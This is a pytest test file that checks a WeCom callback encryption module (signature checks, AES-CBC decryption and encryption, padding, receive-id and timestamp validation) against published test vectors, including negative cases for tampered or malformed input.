"""Tests for api.wecom.crypto against the vectors in shared/specs/wecom.md §5."""

from __future__ import annotations

import base64
import json
import struct
import urllib.parse

import pytest
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from api.wecom import crypto
from api.wecom.crypto import (
    InvalidKeyError,
    InvalidPaddingError,
    InvalidSignatureError,
    MalformedInputError,
    Reason,
    ReceiveIdMismatchError,
    StaleTimestampError,
    WeComCryptoError,
    build_json_reply,
    build_xml_reply,
    check_signature,
    check_timestamp,
    decrypt,
    encrypt,
    parse_xml,
    signature,
    verify_signature,
)

# --- §5.1 A: official vectors (doc 90968/91144) -----------------------------------------------------
A_TOKEN = "QDG6eK"
A_KEY = "jWmYm7qr5nMoAUwZRjGtBxmz3KA1tkAj3ykkR6q2B2C"
A_CORP = "wx5823bf96d3bd56c7"

A1_QUERY = (
    "msg_signature=5c45ff5e21c57e6ad56bac8758b79b1d9ac89fd3&timestamp=1409659589&nonce=263014780"
    "&echostr=P9nAzCzyDtyTWESHep1vC5X9xho%2FqYX3Zpb4yKa9SKld1DsH3Iyt3tP3zNdtp%2B4RPcs8TgAE7OaBO%2BFZXvnaqQ%3D%3D"
)
A1_SIG = "5c45ff5e21c57e6ad56bac8758b79b1d9ac89fd3"
A1_TS = "1409659589"
A1_NONCE = "263014780"
A1_ECHOSTR = "P9nAzCzyDtyTWESHep1vC5X9xho/qYX3Zpb4yKa9SKld1DsH3Iyt3tP3zNdtp+4RPcs8TgAE7OaBO+FZXvnaqQ=="
A1_PLAIN = "1616140317555161061"

A2_SIG = "477715d11cdb4164915debcba66cb864d751f3e6"
A2_TS = "1409659813"
A2_NONCE = "1372623149"
A2_ENCRYPT = (
    "RypEvHKD8QQKFhvQ6QleEB4J58tiPdvo+rtK1I9qca6aM/wvqnLSV5zEPeusUiX5L5X/0lWfrf0QADHHhGd3QczcdCUpj911L3vg3W/sYYvu"
    "JTs3TUUkSUXxaccAS0qhxchrRYt66wiSpGLYL42aM6A8dTT+6k4aSknmPj48kzJs8qLjvd4Xgpue06DOdnLxAUHzM6+kDZ+HMZfJYuR+Ltw"
    "Gc2hgf5gsijff0ekUNXZiqATP7PF5mZxZ3Izoun1s4zG4LUMnvw2r+KqCKIw+3IQH03v+BCA9nMELNqbSf6tiWSrXJB3LAVGUcallcrw8V2t"
    "9EL4EhzJWrQUax5wLVMNS0+rUPA3k22Ncx4XXZS9o0MBH27Bo6BpNelZpS+/uh9KsNlY6bHCmJU9p8g7m3fVKn28H3KDYA5Pl/T8Z1ptDAV"
    "e0lXdQ2YoyyH2uyPIGHBZZIs2pDBS8R07+qN+E7Q=="
)
A2_OUTER_XML = (
    "<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName><Encrypt><![CDATA["
    + A2_ENCRYPT
    + "]]></Encrypt><AgentID><![CDATA[218]]></AgentID></xml>"
).encode()
A2_PLAIN = (
    "<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName>\n"
    "<FromUserName><![CDATA[mycreate]]></FromUserName>\n"
    "<CreateTime>1409659813</CreateTime>\n"
    "<MsgType><![CDATA[text]]></MsgType>\n"
    "<Content><![CDATA[hello]]></Content>\n"
    "<MsgId>4561255354251345929</MsgId>\n"
    "<AgentID>218</AgentID>\n"
    "</xml>"
)

# --- §5.3 C: wechatpy vectors -------------------------------------------------------------------------
C_TOKEN = "123456"
C_KEY = "kWxPEV2UEDyxWpmPdKC3F4dgPDmOvfKX1HGnEUDS1aR"
C_CORP = "wx49f0ab532d5d035a"

C1_SIG = "dd6b9c95b495b3f7e2901bfbc76c664930ffdb96"
C1_TS = "1411443780"
C1_NONCE = "437374425"
C1_ECHOSTR = "4ByGGj+sVCYcvGeQYhaKIk1o0pQRNbRjxybjTGblXrBaXlTXeOo1+bXFXDQQb1o6co6Yh9Bv41n7hOchLF6p+Q=="
C1_PLAIN = "5927782489442352469"

C2_SIG = "74d92dfeb87ba7c714f89d98870ae5eb62dff26d"
C2_TS = "1411525903"
C2_NONCE = "461056294"
C2_ENCRYPT = (
    "RgqEoJj5A4EMYlLvWO1F86ioRjZfaex/gePD0gOXTxpsq5Yj4GNglrBb8I2BAJVODGajiFnXBu7mCPatfjsu6IHCrsTyeDXzF6Bv283dGymz"
    "xh6ydJRvZsryDyZbLTE7rhnus50qGPMfp2wASFlzEgMW9z1ef/RD8XzaFYgm7iTdaXpXaG4+BiYyolBug/gYNx410cvkKR2/nPwBiT+P4hIi"
    "OAQqGp/TywZBtDh1yCF2KOd0gpiMZ5jSw3e29mTvmUHzkVQiMS6td7vXUaWOMZnYZlF3So2SjHnwh4jYFxdgpkHHqIrH/54SNdshoQgWYEvc"
    "cTKe7FS709/5t6NMxuGhcUGAPOQipvWTT4dShyqio7mlsl5noTrb++x6En749zCpQVhDpbV6GDnTbcX2e8K9QaNWHp91eBdCRxthuL0="
)
C2_PLAIN = (
    "<xml><ToUserName><![CDATA[wx49f0ab532d5d035a]]></ToUserName>\n"
    "<FromUserName><![CDATA[messense]]></FromUserName>\n"
    "<CreateTime>1411525903</CreateTime>\n"
    "<MsgType><![CDATA[text]]></MsgType>\n"
    "<Content><![CDATA[test]]></Content>\n"
    "<MsgId>4363689963896700987</MsgId>\n"
    "<AgentID>1</AgentID>\n"
    "</xml>"
)

C3_RANDOM = b"1234567890123456"
C3_TS = "1411525903"
C3_NONCE = "461056294"
C3_PLAIN = (
    "<xml>\n"
    "<MsgType><![CDATA[text]]></MsgType>\n"
    "<Content><![CDATA[test]]></Content>\n"
    "<FromUserName><![CDATA[wx49f0ab532d5d035a]]></FromUserName>\n"
    "<ToUserName><![CDATA[messense]]></ToUserName>\n"
    "<AgentID>1</AgentID>\n"
    "<CreateTime>1411525903</CreateTime>\n"
    "</xml>"
)
C3_ENCRYPT = (
    "9s4gMv99m88kKTh/H8IdkOiMg6bisoy3ypwy9H4hvSPe9nsGaqyw5hhSjdYbcrKk+j3nba4HMOTzHrluLBYqxgNcBqGsL8GqxlhZgURnAtOb"
    "vesEl5nZ+uBE8bviY0LWke8Zy9V/QYKxNV2FqllNXcfmstttyIkMKCCmVbCFM2JTF5wY0nFhHZSjPUL2Q1qvSUCUld+/WIXrx0oyKQmpB6o8"
    "NRrrNrsDf03oxI1p9FxUgMnwKKZeOA/uu+2IEvEBtb7muXsVbwbgX05UPPJvFurDXafG0RQyPR+mf1nDnAtQmmNOuiR5MIkdQ39xn1vWwi1O"
    "5oazPoQJz0nTYjxxEE8kv3kFxtAGVRe3ypD3WeK2XeFYFMNMpatF9XiKzHo3"
)
C3_SIG = "407518b7649e86ef23978113f92d27afa9296533"

# --- §5.4 D: AI-bot vectors (self-generated, cross-checked with Tencent's WXBizJsonMsgCrypt) ----------
D_TOKEN = A_TOKEN
D_KEY = A_KEY
D_RANDOM = b"1234567890123456"

D1_TS = "1700000000"
D1_NONCE = "1700000001"
D1_ECHOSTR = "y514aRT8yYkYNee3kPvkrP0PKxILLkCwDviFQRkbFSPy/rdjbmr1P4E6i++ixo3ZiZpVHwxw3bnczc+p0Kj/EQ=="
D1_SIG = "94ca6314f2dc45ab6b242366a7ad50de1c68198b"
D1_PLAIN = "1616140317555161061"

D2_QUERY = "msg_signature=c05bdc2d500242ef26d9255a97309ea2b2b39681&timestamp=1700000100&nonce=987654321"
D2_BODY = (
    '{"encrypt": "y514aRT8yYkYNee3kPvkrODg2tjtvdrolGKhKjWb/TJDSh63xWzTQ+5GdF5S7AdseBZiJjEqgbnYYvgpz63oR7ssrWwDU1BO2Rd2A5K'
    "7HovrQ5yAr3SuhjiBlZdVlf53y6/qZinoDB8R+rhf2S77ewDOa5wcxSIPodv9Nr83WIZbgrRamQxBSoHGi1cJC2533pnxXP+1qqqBITZXpJbKlCG"
    "XEvzLBxo+n2B0xLKNN+Unj4kVXvvcgAAPpCnEy8cRp8XZkKIcs8QuTn+dyNxZmS6DYHzshCgGCc2KJxcxG8XN2zKD65RiGl91Zc3YN73pcfSsvaN9N"
    "53e4CHynTJhrhh4tL64PpSaKqdoG8w4Xj0BABI/EDUQjNO0/2HXfLo9Fp+KqIq9s2W15YpVhnDxGgJfJA3uBBWDEEX/ftZsyJGeXvrZcmkNY7EQ7t"
    'PqSzL+0Xc63tXgeYaEolxma3Mc8Q=="}'
)
D2_PLAIN = (
    '{"msgid":"CAIQ16HMjQYY/NGagIOAgAMgq4KM0AI=","aibotid":"AIBOTID","chatid":"CHATID","chattype":"group",'
    '"from":{"userid":"zhangsan"},"response_url":"https://qyapi.weixin.qq.com/cgi-bin/aibot/response?'
    'response_code=RESPONSE_CODE","msgtype":"text","text":{"content":"@教学助手 什么是勾股定理？"}}'
)

D3_TS = "1700000101"
D3_NONCE = "987654321"
D3_PLAIN = '{"msgtype":"stream","stream":{"id":"stream-0001","finish":false,"content":"正在检索资料……"}}'
D3_RESPONSE = (
    '{"encrypt": "y514aRT8yYkYNee3kPvkrPWGNJyqLt5O71bC1ZqTdNPXEsYOHM0ie9TAmjrBNhDGcXH00gMPoKDOujyLerTj+SL1T19Q0F04i4U'
    'lQRfcPriwKMA3pCX5t4Z6dxO8/7wxQAP4NGt6M2Q7XHTKlHkHLk/lW1r7eTiu5C/4st5on64=", '
    '"msgsignature": "482e82b0890c79cd22f194c451ae41cd9f663b14", "timestamp": 1700000101, "nonce": "987654321"}'
)


# --- helpers ------------------------------------------------------------------------------------------


def _raw_cbc(key_b64: str, data: bytes, *, decrypt_: bool = False) -> bytes:
    """Raw AES-256-CBC with WeCom's key/IV and no padding handling."""
    key = base64.b64decode(key_b64 + "=")
    cipher = Cipher(algorithms.AES(key), modes.CBC(key[:16]))
    op = cipher.decryptor() if decrypt_ else cipher.encryptor()
    return op.update(data) + op.finalize()


def _raw_encrypt_b64(key_b64: str, padded: bytes) -> str:
    assert len(padded) % 16 == 0
    return base64.b64encode(_raw_cbc(key_b64, padded)).decode()


def _random_prefix(key_b64: str, encrypted_b64: str) -> bytes:
    return _raw_cbc(key_b64, base64.b64decode(encrypted_b64), decrypt_=True)[:16]


def _layout(msg: bytes, receive_id: bytes, prefix: bytes = b"0123456789abcdef") -> bytes:
    return prefix + struct.pack(">I", len(msg)) + msg + receive_id


# Every official / published ciphertext: (key, ciphertext, receive_id, plaintext)
ALL_CIPHERTEXTS = [
    pytest.param(A_KEY, A1_ECHOSTR, A_CORP, A1_PLAIN, id="A1-echostr"),
    pytest.param(A_KEY, A2_ENCRYPT, A_CORP, A2_PLAIN, id="A2-post"),
    pytest.param(C_KEY, C1_ECHOSTR, C_CORP, C1_PLAIN, id="C1-echostr"),
    pytest.param(C_KEY, C2_ENCRYPT, C_CORP, C2_PLAIN, id="C2-post"),
    pytest.param(C_KEY, C3_ENCRYPT, C_CORP, C3_PLAIN, id="C3-reply"),
    pytest.param(D_KEY, D1_ECHOSTR, "", D1_PLAIN, id="D1-echostr"),
    pytest.param(D_KEY, json.loads(D2_BODY)["encrypt"], "", D2_PLAIN, id="D2-post"),
    pytest.param(D_KEY, json.loads(D3_RESPONSE)["encrypt"], "", D3_PLAIN, id="D3-reply"),
]

# Every published signature: (token, timestamp, nonce, encrypted, expected)
ALL_SIGNATURES = [
    pytest.param(A_TOKEN, A1_TS, A1_NONCE, A1_ECHOSTR, A1_SIG, id="A1"),
    pytest.param(A_TOKEN, A2_TS, A2_NONCE, A2_ENCRYPT, A2_SIG, id="A2"),
    pytest.param(C_TOKEN, C1_TS, C1_NONCE, C1_ECHOSTR, C1_SIG, id="C1"),
    pytest.param(C_TOKEN, C2_TS, C2_NONCE, C2_ENCRYPT, C2_SIG, id="C2"),
    pytest.param(C_TOKEN, C3_TS, C3_NONCE, C3_ENCRYPT, C3_SIG, id="C3"),
    pytest.param(D_TOKEN, D1_TS, D1_NONCE, D1_ECHOSTR, D1_SIG, id="D1"),
    pytest.param(
        D_TOKEN,
        "1700000100",
        "987654321",
        json.loads(D2_BODY)["encrypt"],
        "c05bdc2d500242ef26d9255a97309ea2b2b39681",
        id="D2",
    ),
    pytest.param(
        D_TOKEN,
        D3_TS,
        D3_NONCE,
        json.loads(D3_RESPONSE)["encrypt"],
        "482e82b0890c79cd22f194c451ae41cd9f663b14",
        id="D3",
    ),
]


# --- signatures ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(("token", "ts", "nonce", "enc", "expected"), ALL_SIGNATURES)
def test_signature_vectors(token, ts, nonce, enc, expected):
    assert signature(token, ts, nonce, enc) == expected
    assert verify_signature(token, ts, nonce, enc, expected)
    check_signature(token, ts, nonce, enc, expected)


def test_signature_doc_example_sorted_order():
    # doc 90968: the sorted list is "1372623149", "1409659813", "QDG6eK", "RypEvH…"
    parts = sorted([A_TOKEN, A2_TS, A2_NONCE, A2_ENCRYPT])
    assert parts[:3] == ["1372623149", "1409659813", "QDG6eK"]
    assert parts[3].startswith("RypEvH")
    assert signature(A_TOKEN, A2_TS, A2_NONCE, A2_ENCRYPT) == "477715d11cdb4164915debcba66cb864d751f3e6"


def test_signature_is_argument_order_independent():
    assert signature(A2_ENCRYPT, A2_NONCE, A_TOKEN, A2_TS) == A2_SIG


def test_c1_negative_nonce_rejected():
    # spec §5.3 C1 negative: nonce 437374424 must raise "invalid signature"
    assert not verify_signature(C_TOKEN, C1_TS, "437374424", C1_ECHOSTR, C1_SIG)
    with pytest.raises(InvalidSignatureError) as exc_info:
        check_signature(C_TOKEN, C1_TS, "437374424", C1_ECHOSTR, C1_SIG)
    assert exc_info.value.reason is Reason.BAD_SIGNATURE


@pytest.mark.parametrize(
    "bad_sig",
    [
        A2_SIG[:-1] + "0",  # one hex digit flipped
        A2_SIG.upper(),  # WeCom sends lowercase; no case folding
        A2_SIG[:-2],  # truncated
        "",
        "签名" * 20,  # non-ASCII must not crash compare_digest
    ],
)
def test_tampered_signature_rejected(bad_sig):
    assert not verify_signature(A_TOKEN, A2_TS, A2_NONCE, A2_ENCRYPT, bad_sig)
    with pytest.raises(InvalidSignatureError):
        check_signature(A_TOKEN, A2_TS, A2_NONCE, A2_ENCRYPT, bad_sig)


def test_tampered_fields_change_signature():
    assert not verify_signature(A_TOKEN, A2_TS, A2_NONCE, A2_ENCRYPT[:-4] + "AAA=", A2_SIG)
    assert not verify_signature(A_TOKEN, "1409659814", A2_NONCE, A2_ENCRYPT, A2_SIG)
    assert not verify_signature("QDG6eL", A2_TS, A2_NONCE, A2_ENCRYPT, A2_SIG)


def test_signature_uses_compare_digest(monkeypatch):
    calls = []
    real = crypto.hmac.compare_digest

    def spy(a, b):
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr(crypto.hmac, "compare_digest", spy)
    assert verify_signature(A_TOKEN, A2_TS, A2_NONCE, A2_ENCRYPT, A2_SIG)
    assert calls


def test_signature_rejects_non_str():
    with pytest.raises(TypeError):
        signature(A_TOKEN, 1409659813, A2_NONCE, A2_ENCRYPT)  # type: ignore[arg-type]


# --- decrypt: every vector ----------------------------------------------------------------------------


@pytest.mark.parametrize(("key", "enc", "rid", "plain"), ALL_CIPHERTEXTS)
def test_decrypt_vectors(key, enc, rid, plain):
    assert decrypt(key, enc, receive_id=rid) == plain


@pytest.mark.parametrize(("key", "enc", "rid", "plain"), ALL_CIPHERTEXTS)
def test_reencrypt_with_recovered_prefix_is_byte_identical(key, enc, rid, plain):
    prefix = _random_prefix(key, enc)
    assert encrypt(key, plain, receive_id=rid, random16=prefix) == enc


def test_a1_url_verification_from_raw_query():
    q = dict(urllib.parse.parse_qsl(A1_QUERY, strict_parsing=True))
    assert q["echostr"] == A1_ECHOSTR  # URL-decoded exactly once
    check_signature(A_TOKEN, q["timestamp"], q["nonce"], q["echostr"], q["msg_signature"])
    assert decrypt(A_KEY, q["echostr"], receive_id=A_CORP) == A1_PLAIN


def test_a1_unencoded_plus_in_query_fails():
    # spec §1.2 pitfall: raw base64 in the URL turns "+" into " " after decoding
    raw_query = A1_QUERY.replace("%2B", "+").replace("%2F", "/").replace("%3D", "=")
    q = dict(urllib.parse.parse_qsl(raw_query))
    assert " " in q["echostr"]
    assert not verify_signature(A_TOKEN, q["timestamp"], q["nonce"], q["echostr"], q["msg_signature"])
    with pytest.raises(MalformedInputError):
        decrypt(A_KEY, q["echostr"], receive_id=A_CORP)


def test_a2_full_post_flow_xml():
    outer = parse_xml(A2_OUTER_XML)
    assert outer == {"ToUserName": A_CORP, "Encrypt": A2_ENCRYPT, "AgentID": "218"}
    check_signature(A_TOKEN, A2_TS, A2_NONCE, outer["Encrypt"], A2_SIG)
    inner = parse_xml(decrypt(A_KEY, outer["Encrypt"], receive_id=A_CORP))
    assert inner == {
        "ToUserName": A_CORP,
        "FromUserName": "mycreate",
        "CreateTime": "1409659813",
        "MsgType": "text",
        "Content": "hello",
        "MsgId": "4561255354251345929",
        "AgentID": "218",
    }


def test_c1_url_verification():
    check_signature(C_TOKEN, C1_TS, C1_NONCE, C1_ECHOSTR, C1_SIG)
    assert decrypt(C_KEY, C1_ECHOSTR, receive_id=C_CORP) == C1_PLAIN


def test_c2_post_parsed():
    check_signature(C_TOKEN, C2_TS, C2_NONCE, C2_ENCRYPT, C2_SIG)
    inner = parse_xml(decrypt(C_KEY, C2_ENCRYPT, receive_id=C_CORP))
    assert inner["FromUserName"] == "messense"
    assert inner["MsgId"] == "4363689963896700987"
    assert inner["Content"] == "test"


# --- encrypt: deterministic vectors -------------------------------------------------------------------


def test_c3_deterministic_encrypt_byte_for_byte():
    enc = encrypt(C_KEY, C3_PLAIN, receive_id=C_CORP, random16=C3_RANDOM)
    assert enc == C3_ENCRYPT
    assert signature(C_TOKEN, C3_TS, C3_NONCE, enc) == C3_SIG


def test_c3_xml_reply_envelope():
    xml = build_xml_reply(
        C_TOKEN, C_KEY, C3_PLAIN, receive_id=C_CORP, timestamp=C3_TS, nonce=C3_NONCE, random16=C3_RANDOM
    )
    assert xml == (
        "<xml>\n"
        f"<Encrypt><![CDATA[{C3_ENCRYPT}]]></Encrypt>\n"
        f"<MsgSignature><![CDATA[{C3_SIG}]]></MsgSignature>\n"
        f"<TimeStamp>{C3_TS}</TimeStamp>\n"
        f"<Nonce><![CDATA[{C3_NONCE}]]></Nonce>\n"
        "</xml>"
    )
    fields = parse_xml(xml)
    assert fields == {"Encrypt": C3_ENCRYPT, "MsgSignature": C3_SIG, "TimeStamp": C3_TS, "Nonce": C3_NONCE}
    check_signature(C_TOKEN, fields["TimeStamp"], fields["Nonce"], fields["Encrypt"], fields["MsgSignature"])
    assert decrypt(C_KEY, fields["Encrypt"], receive_id=C_CORP) == C3_PLAIN


def test_d1_deterministic_encrypt_and_verification():
    assert encrypt(D_KEY, D1_PLAIN, receive_id="", random16=D_RANDOM) == D1_ECHOSTR
    check_signature(D_TOKEN, D1_TS, D1_NONCE, D1_ECHOSTR, D1_SIG)
    assert decrypt(D_KEY, D1_ECHOSTR, receive_id="") == D1_PLAIN


def test_d2_post_flow_json():
    q = dict(urllib.parse.parse_qsl(D2_QUERY))
    enc = json.loads(D2_BODY)["encrypt"]
    check_signature(D_TOKEN, q["timestamp"], q["nonce"], enc, q["msg_signature"])
    plain = decrypt(D_KEY, enc, receive_id="")
    assert plain == D2_PLAIN
    assert json.loads(plain)["text"]["content"] == "@教学助手 什么是勾股定理？"
    assert encrypt(D_KEY, D2_PLAIN, receive_id="", random16=D_RANDOM) == enc


def test_d3_json_reply_envelope_byte_for_byte():
    reply = build_json_reply(
        D_TOKEN, D_KEY, D3_PLAIN, receive_id="", timestamp=D3_TS, nonce=D3_NONCE, random16=D_RANDOM
    )
    assert reply == json.loads(D3_RESPONSE)
    assert isinstance(reply["timestamp"], int)
    assert json.dumps(reply) == D3_RESPONSE


@pytest.mark.parametrize(
    ("key", "enc"),
    [
        pytest.param(D_KEY, D1_ECHOSTR, id="D1"),
        pytest.param(D_KEY, json.loads(D2_BODY)["encrypt"], id="D2"),
    ],
)
def test_ai_bot_vectors_reject_corp_id(key, enc):
    # Tencent's library returns -40005 when a CorpID is expected for an AI-bot ciphertext.
    with pytest.raises(ReceiveIdMismatchError):
        decrypt(key, enc, receive_id=A_CORP)


def test_fixed_iv_shared_first_block():
    # spec §1.4: same random prefix → same first ciphertext block (the D vectors share "y514aRT8yYkYNee3kPvkr").
    a = base64.b64decode(encrypt(D_KEY, "x", receive_id="", random16=D_RANDOM))
    b = base64.b64decode(encrypt(D_KEY, "y", receive_id="", random16=D_RANDOM))
    assert a[:16] == b[:16]
    c = base64.b64decode(encrypt(D_KEY, "x", receive_id=""))
    d = base64.b64decode(encrypt(D_KEY, "x", receive_id=""))
    assert c[:16] != d[:16]


# --- round trips --------------------------------------------------------------------------------------


@pytest.mark.parametrize("rid", [A_CORP, ""])
@pytest.mark.parametrize(
    "plain",
    [
        "",
        "a",
        "x" * 11,  # 16+4+11+18 = 49
        "y" * 22,  # 16+4+22+18 = 60 ... various alignments
        "z" * 26,  # with rid=A_CORP: 16+4+26+18 = 64 → full extra pad block
        "z" * 44,  # with rid="": 16+4+44 = 64 → full extra pad block
        "学校安全「党政同责、一岗双责」" * 50,
        "emoji 🏫\n\r\t<>&\"'",
    ],
)
def test_round_trip(plain, rid):
    enc = encrypt(A_KEY, plain, receive_id=rid)
    raw = base64.b64decode(enc)
    assert len(raw) % 32 == 0
    assert decrypt(A_KEY, enc, receive_id=rid) == plain


@pytest.mark.parametrize("rid", ["", A_CORP])
def test_block_aligned_plaintext_gets_full_pad_block(rid):
    msg_len = 64 - 20 - len(rid)
    enc = encrypt(A_KEY, "m" * msg_len, receive_id=rid, random16=D_RANDOM)
    padded = _raw_cbc(A_KEY, base64.b64decode(enc), decrypt_=True)
    assert len(padded) == 96
    assert padded[-32:] == b"\x20" * 32


def test_default_random_prefix_is_ascii_alnum_and_fresh():
    encs = {encrypt(A_KEY, "same", receive_id=A_CORP) for _ in range(5)}
    assert len(encs) == 5
    prefix = _random_prefix(A_KEY, encs.pop())
    assert prefix.isascii() and prefix.decode().isalnum()


@pytest.mark.parametrize("bad", [b"", b"123", b"x" * 17, "1234567890123456"])
def test_random16_must_be_16_bytes(bad):
    with pytest.raises(ValueError):
        encrypt(A_KEY, "m", receive_id=A_CORP, random16=bad)  # type: ignore[arg-type]


def test_decrypt_requires_receive_id_keyword():
    with pytest.raises(TypeError):
        decrypt(A_KEY, A1_ECHOSTR)  # type: ignore[call-arg]
    with pytest.raises(TypeError):
        decrypt(A_KEY, A1_ECHOSTR, A_CORP)  # type: ignore[misc]


# --- negative: receive id -----------------------------------------------------------------------------


@pytest.mark.parametrize("rid", ["", "wx5823bf96d3bd56c8", "wx5823bf96d3bd56c", "wx5823bf96d3bd56c7 "])
def test_wrong_receive_id_rejected(rid):
    with pytest.raises(ReceiveIdMismatchError) as exc_info:
        decrypt(A_KEY, A2_ENCRYPT, receive_id=rid)
    assert exc_info.value.reason is Reason.WRONG_RECEIVE_ID
    assert "ReceiveId" in str(exc_info.value)


def test_empty_receive_id_rejects_trailing_bytes():
    enc = encrypt(D_KEY, "hi", receive_id="corp")
    with pytest.raises(ReceiveIdMismatchError):
        decrypt(D_KEY, enc, receive_id="")


# --- negative: padding --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "padded_tail_builder",
    [
        pytest.param(lambda body_len: b"\x00", id="pad-byte-0"),
        pytest.param(lambda body_len: b"\x21", id="pad-byte-33"),
        pytest.param(lambda body_len: b"\xff", id="pad-byte-255"),
        pytest.param(lambda body_len: b"\x01\x02\x03\x04", id="inconsistent-bytes"),
    ],
)
def test_bad_padding_rejected(padded_tail_builder):
    body = _layout(b"hello", A_CORP.encode())  # 16+4+5+18 = 43 bytes
    tail = padded_tail_builder(len(body))
    filler = b"A" * ((-len(body) - len(tail)) % 32)
    enc = _raw_encrypt_b64(A_KEY, body + filler + tail)
    with pytest.raises(InvalidPaddingError) as exc_info:
        decrypt(A_KEY, enc, receive_id=A_CORP)
    assert exc_info.value.reason is Reason.BAD_PADDING


def test_padding_claims_more_bytes_than_consistent():
    body = _layout(b"hello", A_CORP.encode())  # 43 bytes → correct pad is 21 × 0x15
    data = body + b"\x15" * 20 + b"\x16"  # last byte says 22, but only... byte 22 from the end is data
    enc = _raw_encrypt_b64(A_KEY, data)
    with pytest.raises(InvalidPaddingError):
        decrypt(A_KEY, enc, receive_id=A_CORP)


def test_pkcs7_with_block_16_is_rejected():
    # Standard PKCS#7/16 padding (what a generic helper would do) is not WeCom's 32-byte scheme.
    body = _layout(b"hello", A_CORP.encode())  # 43 bytes → PKCS#7/16 pads 5 bytes to 48
    data = body + b"\x05" * 5
    assert len(data) == 48
    with pytest.raises(MalformedInputError):
        decrypt(A_KEY, _raw_encrypt_b64(A_KEY, data), receive_id=A_CORP)


def test_valid_handmade_padding_accepted():
    body = _layout(b"hello", A_CORP.encode())
    k = 32 - len(body) % 32
    enc = _raw_encrypt_b64(A_KEY, body + bytes([k]) * k)
    assert decrypt(A_KEY, enc, receive_id=A_CORP) == "hello"


def test_wrong_key_yields_padding_or_layout_error():
    with pytest.raises(WeComCryptoError) as exc_info:
        decrypt(C_KEY, A2_ENCRYPT, receive_id=A_CORP)
    assert exc_info.value.reason in {Reason.BAD_PADDING, Reason.MALFORMED_INPUT, Reason.WRONG_RECEIVE_ID}


# --- negative: malformed ciphertext / layout ----------------------------------------------------------


@pytest.mark.parametrize(
    "enc",
    [
        pytest.param("", id="empty"),
        pytest.param(A2_ENCRYPT[:-8], id="truncated-base64"),
        pytest.param(base64.b64encode(base64.b64decode(A2_ENCRYPT)[:-16]).decode(), id="truncated-16-bytes"),
        pytest.param(base64.b64encode(base64.b64decode(A2_ENCRYPT)[:-1]).decode(), id="truncated-1-byte"),
        pytest.param("not base64!!", id="non-base64"),
        pytest.param(A2_ENCRYPT.replace("+", " "), id="plus-as-space"),
        pytest.param(A2_ENCRYPT[:40] + "\n" + A2_ENCRYPT[40:], id="embedded-newline"),
        pytest.param(A2_ENCRYPT.replace("/", "_").replace("+", "-"), id="urlsafe-alphabet"),
        pytest.param("密文", id="non-ascii"),
    ],
)
def test_malformed_ciphertext_rejected(enc):
    with pytest.raises(MalformedInputError) as exc_info:
        decrypt(A_KEY, enc, receive_id=A_CORP)
    assert exc_info.value.reason is Reason.MALFORMED_INPUT


def test_non_str_ciphertext_rejected():
    with pytest.raises(MalformedInputError):
        decrypt(A_KEY, A2_ENCRYPT.encode(), receive_id=A_CORP)  # type: ignore[arg-type]


def test_declared_length_exceeding_data_rejected():
    body = b"0123456789abcdef" + struct.pack(">I", 1000) + b"hello" + A_CORP.encode()
    k = 32 - len(body) % 32
    enc = _raw_encrypt_b64(A_KEY, body + bytes([k]) * k)
    with pytest.raises(MalformedInputError, match="length"):
        decrypt(A_KEY, enc, receive_id=A_CORP)


def test_too_short_plaintext_rejected():
    body = b"0123456789"  # shorter than random(16) + len(4)
    k = 32 - len(body)
    enc = _raw_encrypt_b64(A_KEY, body + bytes([k]) * k)
    with pytest.raises(MalformedInputError, match="too short"):
        decrypt(A_KEY, enc, receive_id=A_CORP)


def test_invalid_utf8_message_rejected():
    body = _layout(b"\xff\xfe", A_CORP.encode())
    k = 32 - len(body) % 32
    enc = _raw_encrypt_b64(A_KEY, body + bytes([k]) * k)
    with pytest.raises(MalformedInputError, match="UTF-8"):
        decrypt(A_KEY, enc, receive_id=A_CORP)


# --- negative: key ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "key",
    [
        pytest.param(A_KEY[:-1], id="42-chars"),
        pytest.param(A_KEY + "A", id="44-chars"),
        pytest.param(A_KEY + "=", id="with-padding"),
        pytest.param("", id="empty"),
        pytest.param(A_KEY[:-1] + "+", id="non-alnum"),
        pytest.param(A_KEY[:-1] + "é", id="non-ascii"),
        pytest.param(base64.b64encode(b"k" * 16).decode().rstrip("="), id="aes128-key"),
    ],
)
def test_wrong_key_rejected(key):
    with pytest.raises(InvalidKeyError) as exc_info:
        decrypt(key, A2_ENCRYPT, receive_id=A_CORP)
    assert exc_info.value.reason is Reason.INVALID_KEY
    with pytest.raises(InvalidKeyError):
        encrypt(key, "x", receive_id=A_CORP)


# --- timestamps ---------------------------------------------------------------------------------------


def test_timestamp_within_skew_ok():
    check_timestamp("1409659813", max_skew_s=300, now=1409659813.0)
    check_timestamp("1409659813", max_skew_s=300, now=1409659813 + 300)
    check_timestamp("1409659813", max_skew_s=300, now=1409659813 - 300)


@pytest.mark.parametrize("delta", [301, -301, 86400, -86400])
def test_stale_timestamp_rejected(delta):
    with pytest.raises(StaleTimestampError) as exc_info:
        check_timestamp("1409659813", max_skew_s=300, now=1409659813 + delta)
    assert exc_info.value.reason is Reason.STALE_TIMESTAMP
    assert "300" in str(exc_info.value)


def test_timestamp_defaults_to_wall_clock():
    import time

    check_timestamp(str(int(time.time())), max_skew_s=60)
    with pytest.raises(StaleTimestampError):
        check_timestamp(A1_TS, max_skew_s=60)  # 2014


def test_skew_zero_disables_check():
    check_timestamp(A1_TS, max_skew_s=0, now=4_000_000_000)
    check_timestamp("not-a-number", max_skew_s=0)


@pytest.mark.parametrize("ts", ["", "abc", "-5", "1.5", " 1409659813", "１４０９", "9" * 30])
def test_malformed_timestamp_rejected(ts):
    with pytest.raises(MalformedInputError):
        check_timestamp(ts, max_skew_s=300, now=1409659813)


def test_negative_skew_is_programming_error():
    with pytest.raises(ValueError):
        check_timestamp(A1_TS, max_skew_s=-1)


# --- reply envelopes ----------------------------------------------------------------------------------


def test_xml_reply_round_trip_random_prefix():
    plain = (
        "<xml><ToUserName><![CDATA[mycreate]]></ToUserName><Content><![CDATA[回复：hello]]></Content></xml>"
    )
    xml = build_xml_reply(A_TOKEN, A_KEY, plain, receive_id=A_CORP, timestamp=A2_TS, nonce=A2_NONCE)
    f = parse_xml(xml.encode())
